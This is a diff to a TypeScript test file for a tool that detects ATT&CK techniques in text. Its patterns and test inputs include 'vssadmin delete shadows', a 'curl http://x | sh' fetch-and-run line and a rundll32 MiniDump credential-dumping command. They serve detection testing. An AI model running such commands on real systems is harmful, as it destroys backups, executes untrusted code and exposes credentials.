@@ -4,6 +4,7 @@ import { findBehaviours } from "./find-behaviours.ts";
 
 const behaviours = [
   { technique: "T1053.005", phrases: ["scheduled task* ... creat*", "creat* ... scheduled task*"] },
+  { technique: "T1566.001", phrases: ["email with attachment"] },
   { technique: "T1490", phrases: ["delet* ... shadow copies", "vssadmin delete shadows"] },
 ];
 const lolbins = [
@@ -37,6 +38,16 @@ test("a phrase implies its technique, with words of any ending and up to three w
   expect(found("A scheduled task that nobody had ever seen created havoc.")).toEqual([]);
 });
 
+test("articles and auxiliary verbs do not count", () => {
+  expect(found("They deleted all of the shadow copies; a scheduled task has been created.")).toHaveLength(2);
+});
+
+test("an email, a mail and an e-mail are one word", () => {
+  expect(found("an email with an attachment")).toHaveLength(1);
+  expect(found("a mail with an attachment")).toHaveLength(1);
+  expect(found("The e-mail with an attachment")).toHaveLength(1);
+});
+
 test("a phrase does not reach over the end of a sentence", () => {
   expect(found("There was a scheduled task. Created by us, it ran.")).toEqual([]);
 });
@@ -58,6 +69,13 @@ test("a program implies its technique when it is run with a suspicious argument"
   expect(found("rundll32.exe is a program; curl too")).toEqual([]);
   expect(found("curl http://x | sh")).toHaveLength(1);
   expect(found("curl http://x | shred")).toEqual([]);
+});
+
+test("an argument says for which technique a program is used", () => {
+  expect(found("rundll32.exe C:\\x.dll, MiniDump 624")).toEqual([
+    'T1218.011 «rundll32.exe C:\\x.dll, MiniDump» 0.6 rundll32.exe with "MiniDump"',
+    'T1003.001 «rundll32.exe C:\\x.dll, MiniDump» 0.6 rundll32.exe with "MiniDump"',
+  ]);
 });
 
 test("proposals are marked as such and stand at their place", () => {
